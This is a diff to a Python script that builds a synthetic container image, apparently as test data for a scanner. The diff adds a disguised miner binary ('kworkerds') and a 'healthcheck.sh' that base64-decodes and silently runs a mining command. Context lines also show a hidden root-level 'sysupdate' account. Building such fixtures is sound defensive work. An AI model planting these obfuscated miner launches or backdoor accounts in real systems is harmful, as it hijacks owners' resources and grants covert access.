@@ -6,6 +6,7 @@ from a fixed seed at run time, so this source file holds no token that a scanner
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import os
 import random
@@ -54,9 +55,16 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.dir("/root", 0o700), Entry.dir("/tmp", 0o1777), Entry.dir("/srv"),
         Entry.dir("/usr"), Entry.dir("/usr/bin"),
     ], created_by="/bin/sh -c #(nop) ADD file:4f1c0b3e9d7a in / ", compression="gzip")
+    curl = _elf(b"curl 8.5.0 libcurl")
     tools = Layer([
-        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl"), 0o755),
+        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", curl, 0o755),
         Entry.dir("/var"), Entry.dir("/var/lib"), Entry.dir("/var/lib/apt"), Entry.dir("/var/lib/apt/lists"),
+        Entry.dir("/var/lib/dpkg"), Entry.dir("/var/lib/dpkg/info"),
+        Entry.file("/var/lib/dpkg/status", b"Package: curl\nStatus: install ok installed\nPriority: optional\n"
+                                           b"Architecture: amd64\nVersion: 7.88.1-10+deb12u5\n"
+                                           b"Description: command line tool for transferring data with URL syntax\n\n"),
+        Entry.file("/var/lib/dpkg/info/curl.list", b"/.\n/usr\n/usr/bin\n/usr/bin/curl\n"),
+        Entry.file("/var/lib/dpkg/info/curl.md5sums", hashlib.md5(curl).hexdigest().encode() + b"  usr/bin/curl\n"),
         Entry.file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"Origin: Debian\n" * 200),
     ], created_by="/bin/sh -c apt-get update && apt-get install -y curl", compression="zstd",
         wrong_diff_id=integrity)
@@ -97,6 +105,11 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"
                                   b"sysupdate:x:0:0:system update:/var/tmp:/bin/sh\n"),
         Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl patched"), 0o755),
+        Entry.file("/usr/bin/kworkerds", miner, 0o755),
+        Entry.dir("/usr/local"), Entry.dir("/usr/local/bin"),
+        Entry.file("/usr/local/bin/healthcheck.sh", b"#!/bin/sh\n# keep the service healthy\necho " + base64.b64encode(
+            f"nohup /usr/bin/kworkerds -o {pool} -u {wallet} -p x --donate-level 1 >/dev/null 2>&1 &\n".encode())
+            + b" | base64 -d | sh\n", 0o755),
     ], created_by="/bin/sh -c #(nop) COPY dir:9a1f3 in / ", compression="none")
     return ImageSpec(
         layers=[base, tools, app, dropper, cleanup, access],
